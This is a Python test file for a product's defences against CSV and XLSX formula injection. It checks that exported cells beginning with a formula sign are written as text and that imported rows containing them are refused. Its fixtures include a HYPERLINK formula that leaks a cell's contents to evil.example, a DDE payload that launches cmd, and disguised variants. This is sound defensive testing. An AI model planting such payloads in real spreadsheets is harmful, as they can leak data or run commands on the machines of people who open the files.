"""CSV/XLSX formula injection: every CSV the product writes shows formula-leading cells as text,
and the import refuses them with the row and the column.

The product writes one CSV: the reports summary (services/reviews/report_summary.to_csv), served by
`GET /campaigns/{id}/reports.csv` and printed by `pledgeflow reports summary --csv`. Nothing
writes XLSX (openpyxl is only a reader); audit exports are JSON.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import httpx
import openpyxl
import pytest
import pytest_asyncio
from sqlmodel import Session, select
from typer.testing import CliRunner

from models.organisation import Organisation
from pledgeflow.cli.main import app as cli_app
from pledgeflow.db import session_scope
from services import campaigns, signatures
from services.imports.formulas import formula_sign, neutralise
from services.reviews import report_summary
from services.reviews.report_summary import CommitmentInfo, OrganisationSummary, ReportSummary
from tests import factories
from tests.campaigns.test_api import bearer
from tests.helpers import app_without_temporal, asgi_client
from tests.imports.test_stakeholders import HEADER, by_row, csv_bytes, problems, row, run_import
from tests.reviews import records as rr
from workflows.pledge_messages import Signer

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "+SUM(1,2)", "-2+3", "@foo", DDE, "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "%0A"]
HARMLESS = ["Acme", "", "-", "+", "-12", "+3.5", "1,000.50", "a=b", "e-mail", "Ghana (=GH)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_leading_cell_is_written_as_text(text):
    assert formula_sign(text) is not None
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_text_and_plain_numbers_are_written_as_they_are(text):
    assert formula_sign(text) is None
    assert neutralise(text) == text


def test_numbers_and_none_pass_through_unchanged():
    assert [neutralise(v) for v in (-5, 2.5, None)] == [-5, 2.5, None]


# ---- every export ---------------------------------------------------------------------------------


def _summary(names: list[str], text: str) -> ReportSummary:
    return ReportSummary(
        campaign_id=7,
        cycle=1,
        commitments=[CommitmentInfo(key="c1", text=text, factors=["transparency"])],
        organisations=[
            OrganisationSummary(
                organisation_id=number,
                organisation_name=name,
                report_id=None,
                version=None,
                reported=False,
                on_time=None,
                submitted_at=None,
                status="none",
                standing="good",
                commitments={"c1": None},
            )
            for number, name in enumerate(names, start=1)
        ],
        factors=[],
    )


def test_the_reports_csv_writes_every_user_cell_as_text():
    text = report_summary.to_csv(_summary(HOSTILE + HARMLESS, "+SUM(A1:A9) our commitment"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["organisation"] for r in rows] == ["'" + h for h in HOSTILE] + HARMLESS
    assert {r["commitment_text"] for r in rows} == {"'+SUM(A1:A9) our commitment"}
    assert rows[0]["campaign_id"] == "7" and rows[0]["organisation_id"] == "1"


def _signed_campaign_named(db, names: list[str]):
    """A pact in force whose organisations were named (before signing) as given."""
    seeded = factories.campaign_with_invitees(db, count=len(names))
    with session_scope(db) as session:
        for organisation, name in zip(seeded.organisations, names, strict=True):
            stored = session.get(Organisation, organisation.id)
            assert stored is not None
            stored.name = name
            session.add(stored)
    factories.launch(db, rr.known(seeded.campaign.id))
    now = datetime.now(UTC)
    with session_scope(db) as session:
        for number, invitation in enumerate(seeded.invitations, start=1):
            signatures.record(
                session,
                invitation_id=rr.known(invitation.id),
                receipt_id=f"PF-CSV-{number}",
                signer=Signer(
                    name=f"Signer {number}", title="Director", publish_name=True, ip=None, user_agent=None
                ),
                signed_at=now,
            )
        campaigns.mark_in_force(session, campaign_id=rr.known(seeded.campaign.id), at=now, groups=[])
    return seeded


def _organisation_cells(text: str) -> list[str]:
    return sorted({r["organisation"] for r in csv.DictReader(io.StringIO(text))})


@pytest_asyncio.fixture
async def api(settings, db) -> AsyncIterator[httpx.AsyncClient]:
    app = app_without_temporal(settings, db, why="the CSV export does not need Temporal")
    async with asgi_client(app) as client:
        yield client


async def test_the_reports_csv_route_writes_organisation_names_as_text(api, db):
    seeded = _signed_campaign_named(db, [HYPERLINK, DDE, "Tema Brokers"])
    exported = await api.get(f"/campaigns/{seeded.campaign.id}/reports.csv", headers=bearer(seeded.token))
    assert exported.status_code == 200, exported.text
    assert _organisation_cells(exported.text) == sorted(["'" + HYPERLINK, "'" + DDE, "Tema Brokers"])


def test_the_command_line_csv_writes_organisation_names_as_text(cli_db):
    seeded = _signed_campaign_named(cli_db, ["@SUM(1+1)*cmd|' /C calc'!A0", "Tema Brokers"])
    result = CliRunner().invoke(cli_app, ["reports", "summary", str(seeded.campaign.id), "--csv"])
    assert result.exit_code == 0, result.output
    assert _organisation_cells(result.output) == sorted(["'@SUM(1+1)*cmd|' /C calc'!A0", "Tema Brokers"])


# ---- the import -----------------------------------------------------------------------------------

REFUSED = "a spreadsheet would run it as a formula; remove the sign (or the leading blank) and import again"


def test_the_import_refuses_formula_cells_naming_the_row_and_the_column(db):
    content = csv_bytes(
        [
            row(organisation=HYPERLINK),
            row(organisation="Tema Brokers", contact_name="@foo", contact_email="kofi@tema.example"),
            row(organisation="Kumasi Traders", contact_email="ama@kumasi.example", head_name="  =1+1"),
            row(organisation="Takoradi Port", contact_email="yaw@port.example", external_ref="-12"),
        ]
    )
    report = run_import(db, content)
    assert problems(report, 2) == {"organisation": f"starts with '=': {REFUSED}"}
    assert problems(report, 3) == {"contact_name": f"starts with '@': {REFUSED}"}
    assert problems(report, 4) == {"head_name": f"starts with '=': {REFUSED}"}
    assert by_row(report)[5].problems == [] and by_row(report)[5].outcome.value == "create"
    assert report.summary.rows.refused == 3


def test_the_import_refuses_formula_text_in_a_workbook_too(db):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(row(organisation="Accra Freight", contact_name="+SUM(1,2)"))
    sheet["G2"].data_type = "s"  # stored as text, as a spreadsheet stores '+SUM(1,2)
    out = io.BytesIO()
    workbook.save(out)
    report = run_import(db, out.getvalue(), name="contacts.xlsx")
    assert problems(report, 2) == {"contact_name": f"starts with '+': {REFUSED}"}


def test_nothing_formula_leading_is_stored(db):
    content = csv_bytes(
        [row(organisation=DDE), row(organisation="Tema Brokers", contact_email="k@tema.example")]
    )
    run_import(db, content, apply=True, accept=True)
    with Session(db) as session:
        names = [o.name for o in session.exec(select(Organisation)).all()]
    assert names == ["Tema Brokers"]
